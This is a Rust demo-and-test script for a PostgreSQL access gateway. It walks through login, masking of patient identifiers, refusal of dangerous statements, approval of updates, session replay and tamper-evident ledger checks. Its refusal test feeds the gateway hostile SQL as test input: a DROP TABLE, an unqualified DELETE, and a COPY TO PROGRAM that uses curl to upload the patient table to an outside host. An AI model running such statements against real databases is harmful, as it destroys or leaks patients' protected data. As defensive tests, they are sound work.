//! `cargo xtask demo [--once]`: the whole story in a terminal, against a real PostgreSQL, then a gateway to explore.
//!
//! Here: the story. What it needs to run (server, identity provider, gateway, people) is in `stage`.

mod stage;

use crate::{conversations, say, setup};
use stage::{PEOPLE, Stage};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};
use vestibule_e2e::run::{run, show};
use vestibule_e2e::temp::TempDir;
use vestibule_e2e::{Doing as _, Outcome, cache, failure};

/// How long anything in the story may take.
const LIMIT: Duration = Duration::from_secs(60);

/// Tells the story. With `--once` it ends after it; otherwise everything stays up until Enter is pressed.
///
/// # Errors
/// When something cannot be installed, built or started, or the story does not go as it should.
pub fn demo(words: &[String]) -> Outcome<()> {
    let once = words.iter().any(|word| word == "--once");
    say::stage("what is needed");
    setup::for_demo()?;
    let mut build = Command::new("cargo");
    build.args(["build", "--quiet", "--locked", "-p", "vestibule"]).current_dir(cache::project());
    say::line("building the gateway (the first time takes minutes)");
    show(&mut build)?;
    let mut stage = Stage::set(&conversations::program()?, &cache::dir().join("demo"))?;
    tell(&mut stage)?;
    say::line(&stage.what_next());
    if once {
        return Ok(());
    }
    say::line("\nEverything stays up until you press Enter here.");
    let mut line = String::new();
    match std::io::stdin().read_line(&mut line) {
        Ok(read) if read > 0 => Ok(()),
        // Without a keyboard it stays up until it is ended by a signal.
        _ => loop {
            std::thread::park();
        },
    }
}

/// The whole story as a test, with the gateway that was built already.
///
/// # Errors
/// When something cannot be started, or the story does not go as it should.
pub fn as_a_test() -> Outcome<()> {
    let home = TempDir::new("demo")?;
    tell(&mut Stage::set(&conversations::program()?, home.path())?)
}

fn chapter(number: u32, title: &str, words: &str) {
    say::line(&format!("\n\n━━ {number}. {title} ━━\n{words}\n"));
}

fn tell(stage: &mut Stage) -> Outcome<()> {
    identity(stage)?;
    masked(stage)?;
    revealed(stage)?;
    blocked(stage)?;
    approval(stage)?;
    replay(stage)?;
    verification(stage)?;
    evidence(stage)
}

fn identity(stage: &Stage) -> Outcome<()> {
    chapter(
        1,
        "Who are you?",
        "People log in at the identity provider of the house, here a real OpenID Provider on this machine. What comes\n\
         back is exchanged for a short-lived token of the gateway's own. No database password is ever handed out.",
    );
    for person in PEOPLE {
        stage.log_in(person)?;
    }
    expect(&stage.show("dana", &["whoami"])?, "analysts")
}

fn masked(stage: &Stage) -> Outcome<()> {
    chapter(
        2,
        "The same query, but not the same values",
        "Dana is an analyst: she may count and join, and sees no PHI. Whatever she calls a column, and however she wraps\n\
         it, the gateway knows where it comes from. Identifiers become tokens that still join.",
    );
    let plain = "SELECT id, mrn, last_name, dob, ssn, zip, state FROM patient ORDER BY id LIMIT 3";
    let said = stage.psql("dana", plain)?;
    no_secret(stage, &said)?;
    let tricks =
        "SELECT ssn AS favourite_colour, upper(last_name) AS town, row_to_json(p) FROM patient p ORDER BY id LIMIT 2";
    let said = stage.psql("dana", tricks)?;
    no_secret(stage, &said)?;
    let useful = "SELECT state, count(*) FROM patient GROUP BY state ORDER BY state";
    expect(&stage.psql("dana", useful)?, "OH")
}

fn revealed(stage: &Stage) -> Outcome<()> {
    chapter(
        3,
        "The minimum necessary",
        "Omar is a clinician: names, dates and record numbers are revealed to him, the social security number is not.",
    );
    let said = stage.psql("omar", "SELECT id, mrn, last_name, dob, ssn FROM patient ORDER BY id LIMIT 3")?;
    let (name, ssn) = stage.first_patient()?;
    expect(&said, &name)?;
    if said.contains(&ssn) { Err(failure("the social security number was shown")) } else { Ok(()) }
}

fn blocked(stage: &Stage) -> Outcome<()> {
    chapter(
        4,
        "What nobody may do",
        "Kim keeps the database. Statements are judged by what they do, read by PostgreSQL's own parser, not by how they\n\
         are spelled. The refusal says which rule and what to do, and the session goes on.",
    );
    expect(&stage.psql("kim", "DROP TABLE patient")?, "dropping or truncating")?;
    expect(&stage.psql("kim", "WITH gone AS (DELETE FROM patient RETURNING *) SELECT count(*) FROM gone")?, "WHERE")?;
    expect(&stage.psql("kim", "COPY patient TO PROGRAM 'curl -T - https://example.org'")?, "out of the database")
}

fn approval(stage: &mut Stage) -> Outcome<()> {
    chapter(
        5,
        "A second pair of eyes",
        "Kim's correction of a record waits until somebody of the group dba-approvers has said yes. Nobody approves\n\
         their own. psql just waits; other sessions are not delayed.",
    );
    let waiting = stage.psql_in_background("kim", "UPDATE patient SET city = 'Salem' WHERE id = 7")?;
    let number = stage.await_request("rosa", LIMIT)?;
    stage.show("rosa", &["requests", &number])?;
    let own = stage.show_any("kim", &["approve", &number, "--reason", "I am sure"])?;
    expect(&own, "own request")?;
    stage.show("rosa", &["approve", &number, "--reason", "ticket CLIN-1042, address checked"])?;
    let said = waiting.finish(LIMIT)?;
    say::line(&said);
    expect(&said, "UPDATE 1")
}

fn replay(stage: &Stage) -> Outcome<()> {
    chapter(
        6,
        "What did they see?",
        "Every session is recorded as its client saw it, already masked, and encrypted. Carla, of compliance, lists the\n\
         sessions and replays one; that she looked is itself recorded.",
    );
    stage.show("carla", &["sessions", "--limit", "6"])?;
    let sid = stage.session_of("dana")?;
    no_secret(stage, &stage.show("carla", &["replay", &sid])?)
}

fn verification(stage: &Stage) -> Outcome<()> {
    chapter(
        7,
        "Is the record whole?",
        "The ledger is a Merkle log with signed checkpoints. Anybody can verify it offline with the public key. Here somebody\n\
         with the disk in hands changes one byte of a copy.",
    );
    std::thread::sleep(Duration::from_millis(1_500));
    expect(&stage.verify(&stage.ledger())?, "verified")?;
    let copy = stage.tampered_copy()?;
    expect(&stage.verify(&copy)?, "NOT")
}

fn evidence(stage: &Stage) -> Outcome<()> {
    chapter(
        8,
        "Evidence for somebody who does not trust us",
        "One command writes what an auditor asks for: who accessed what, with whose approval, what was masked and what was\n\
         revealed, with the verification beside it.",
    );
    let out = stage.home().join("evidence");
    let out = out.to_str().ok_or_else(|| failure("the demonstration's folder has no plain name"))?;
    expect(
        &stage.show("carla", &["evidence", "--from", "2020-01-01", "--to", "2100-01-01", "--out", out])?,
        "report.html",
    )
}

/// The story must go as it is told.
fn expect(said: &str, words: &str) -> Outcome<()> {
    if said.contains(words) { Ok(()) } else { Err(failure(format!("the story went wrong: `{words}` was to be said"))) }
}

fn no_secret(stage: &Stage, said: &str) -> Outcome<()> {
    let (name, ssn) = stage.first_patient()?;
    if said.contains(&name) || said.contains(&ssn) {
        return Err(failure("the story went wrong: a value that is masked was shown"));
    }
    Ok(())
}

/// Waits until `ready` has something.
pub(crate) fn wait_for<T>(limit: Duration, mut ready: impl FnMut() -> Option<T>) -> Outcome<T> {
    let end = Instant::now() + limit;
    loop {
        if let Some(found) = ready() {
            return Ok(found);
        }
        if Instant::now() > end {
            return Err(failure("the story went wrong: nothing happened in time"));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Runs a command and hands back everything it said.
pub(crate) fn said(command: &mut Command) -> Outcome<(bool, String)> {
    let ended = run(command, LIMIT)?;
    Ok((ended.success(), format!("{}{}", ended.stdout, ended.stderr)))
}

/// Copies a folder.
pub(crate) fn copy(from: &Path, to: &Path) -> Outcome<()> {
    std::fs::create_dir_all(to).doing("cannot make a folder")?;
    for entry in std::fs::read_dir(from).doing("cannot read a folder")?.flatten() {
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy(&entry.path(), &target)?;
        } else {
            std::fs::copy(entry.path(), &target).doing("cannot copy a file")?;
        }
    }
    Ok(())
}
